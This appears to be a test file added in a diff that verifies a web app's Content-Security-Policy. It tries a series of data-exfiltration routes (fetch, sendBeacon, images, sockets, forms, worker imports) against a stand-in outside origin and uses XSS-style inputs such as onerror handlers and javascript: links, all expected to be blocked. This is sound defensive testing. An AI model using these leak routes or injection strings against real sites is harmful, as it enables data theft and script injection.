@@ -1,0 +1,173 @@
+// Nothing leaves: the release carries the policy, starts under it, and the browser enforces it.
+
+import { createHash } from "node:crypto";
+
+import { expect, test } from "./fixtures.ts";
+
+const POLICY = [
+  "default-src 'none'",
+  "script-src 'self' 'wasm-unsafe-eval'",
+  "style-src 'self'",
+  "img-src 'self' blob: data:",
+  "font-src 'self'",
+  "connect-src 'self'",
+  "worker-src 'self' blob:",
+  "manifest-src 'self'",
+  "base-uri 'none'",
+  "form-action 'none'",
+  "require-trusted-types-for 'script'",
+  "trusted-types default",
+];
+
+test("the release has the policy first, with the hash of each script in the page", async ({ request, app }) => {
+  const html = await (await request.get(app.url)).text();
+  const head = html.slice(html.indexOf("<head>") + "<head>".length).trimStart();
+  const policy = /^<meta http-equiv="Content-Security-Policy" content="([^"]*)">/.exec(head)?.[1] ?? "";
+  const inline = [...html.matchAll(/<script(?![^>]*\ssrc=)[^>]*>([\s\S]*?)<\/script>/g)].map((match) => match[1]);
+  expect(inline.length).toBeGreaterThan(0);
+  const hashes = inline.map((script) => `'sha256-${createHash("sha256").update(script).digest("base64")}'`);
+  const wanted = POLICY.map((part) => (part.startsWith("script-src") ? [part, ...hashes].join(" ") : part));
+  expect(policy.split("; ")).toEqual(wanted);
+  expect(html).toContain('<meta name="referrer" content="no-referrer">');
+});
+
+test("the page starts and works under the policy without a complaint", async ({ fairshare }) => {
+  await fairshare.open();
+  await fairshare.openSample("A B2B year");
+  await expect(fairshare.data).toContainText("A B2B year");
+  await fairshare.model("J-shaped").click();
+  await expect(fairshare.picture).toContainText("J-shaped");
+});
+
+test("using the page sends nothing to another origin, and asks its own for nothing new", async ({ fairshare, app, page }) => {
+  const away: string[] = [];
+  page.on("request", (request) => {
+    const url = new URL(request.url());
+    if (url.origin !== app.origin && url.protocol.startsWith("http")) away.push(request.url());
+  });
+  await fairshare.open();
+  const loaded = app.log.length;
+  await fairshare.drop({ name: "secret.csv", text: TOUCHES });
+  await expect(fairshare.data).toContainText("secret.csv");
+  await fairshare.model("J-shaped").click();
+  await expect(fairshare.picture).toContainText("J-shaped");
+  await (await fairshare.halfLife()).press("ArrowRight");
+  await expect(fairshare.picture).toContainText("Time decay, 7.5 days");
+  expect(away).toEqual([]);
+  expect(app.log.slice(loaded)).toEqual([]);
+});
+
+const TOUCHES = `Deal,Date,Channel,Team,Won,Amount
+A,2025-03-01,Webinar,Marketing,0,
+A,2025-03-09,Call,Sales,1,1000
+B,2025-03-02,Call,Sales,0,
+B,2025-03-12,E-mail,Marketing,1,3000
+`;
+
+/** Ways out of a page: each tries to reach an address. */
+const WAYS_OUT: Record<string, (address: string) => unknown> = {
+  fetch: (address) => fetch(address, { mode: "no-cors" }).catch(() => {}),
+  beacon: (address) => navigator.sendBeacon(address, "secret"),
+  image: (address) => {
+    new Image().src = address;
+  },
+  socket: (address) => {
+    try {
+      new WebSocket(address.replace("http", "ws"));
+    } catch {
+      // Refused, as it must be.
+    }
+  },
+  stylesheet: (address) => {
+    const link = Object.assign(document.createElement("link"), { rel: "stylesheet", href: address });
+    document.head.append(link);
+  },
+  frame: (address) => {
+    const frame = document.createElement("iframe");
+    frame.src = address;
+    document.body.append(frame);
+  },
+  form: (address) => {
+    const form = Object.assign(document.createElement("form"), { action: address, target: "_blank" });
+    document.body.append(form);
+    form.submit();
+  },
+  prefetch: (address) => {
+    document.head.append(Object.assign(document.createElement("link"), { rel: "prefetch", href: address }));
+  },
+};
+
+for (const [name, way] of Object.entries(WAYS_OUT)) {
+  test(`no way out of the page by ${name}`, async ({ fairshare, page, elsewhere, complaints }) => {
+    await fairshare.open();
+    const address = `${elsewhere.origin}/${name}`;
+    // Evaluated by the debugger, which the policy's ban on text as code does not stop.
+    const refused = await page.evaluate(`new Promise((refused) => {
+      const told = (event) => refused(event.blockedURI);
+      document.addEventListener("securitypolicyviolation", told, { once: true });
+      (${way})(${JSON.stringify(address)});
+    })`);
+    expect(String(refused).replace(/^ws/, "http")).toContain(elsewhere.origin);
+    expect([elsewhere.log, elsewhere.bytes]).toEqual([[], 0]);
+    complaints.length = 0; // of the attempt
+  });
+}
+
+test("no way out of a worker like the page's own", async ({ fairshare, page, elsewhere, complaints }) => {
+  await fairshare.open();
+  const tried = await page.evaluate((address) => {
+    const source = `
+      const attempts = [
+        () => fetch(${JSON.stringify(address)} + "/fetch", { mode: "no-cors" }),
+        () => importScripts(${JSON.stringify(address)} + "/import"),
+        () => new WebSocket(${JSON.stringify(address.replace("http", "ws"))} + "/socket"),
+        () => new EventSource(${JSON.stringify(address)} + "/events"),
+        () => eval("1"),
+      ];
+      Promise.allSettled(attempts.map(async (attempt) => attempt())).then((all) => postMessage(all.map((one) => one.status)));`;
+    const worker = new Worker(URL.createObjectURL(new Blob([source], { type: "text/javascript" })));
+    return new Promise((answer) => worker.addEventListener("message", (event) => answer(event.data), { once: true }));
+  }, elsewhere.origin);
+  expect(tried).toHaveLength(5);
+  expect((tried as string[])[0], "fetch").toBe("rejected");
+  expect((tried as string[])[1], "importScripts").toBe("rejected");
+  expect((tried as string[])[4], "eval").toBe("rejected");
+  expect([elsewhere.log, elsewhere.bytes]).toEqual([[], 0]);
+  complaints.length = 0; // of the attempts
+});
+
+test("the listener does hear what is not forbidden", async ({ page, app, elsewhere }) => {
+  await page.goto(`${app.url}nothing.html`); // a document without the policy
+  await page.evaluate((address) => fetch(address, { mode: "no-cors" }), elsewhere.origin);
+  expect(elsewhere.log).toEqual(["GET /"]);
+  expect(elsewhere.bytes).toBeGreaterThan(0);
+  elsewhere.forget();
+});
+
+test("text never becomes script", async ({ fairshare, page, complaints }) => {
+  await fairshare.open();
+  const refused = await page.evaluate(() => {
+    const attempt = (what: () => void) => {
+      try {
+        what();
+        return "done";
+      } catch (error) {
+        return (error as Error).name;
+      }
+    };
+    const element = () => document.createElement("div");
+    return {
+      plain: attempt(() => (element().innerHTML = "<p>plain</p>")),
+      script: attempt(() => (element().innerHTML = "<script>1</script>")),
+      handler: attempt(() => (element().innerHTML = "<img src=x onerror=1>")),
+      address: attempt(() => (element().innerHTML = "<a href='javascript:1'>a</a>")),
+      long: attempt(() => (element().innerHTML = "x".repeat(1_000_000))),
+      source: attempt(() => (document.createElement("script").src = "https://example.org/a.js")),
+      worker: attempt(() => new Worker("worker.js")),
+    };
+  });
+  const { plain, ...others } = refused;
+  expect(plain).toBe("done");
+  for (const [what, outcome] of Object.entries(others)) expect(outcome, what).toBe("TypeError");
+  complaints.length = 0; // of the attempts
+});
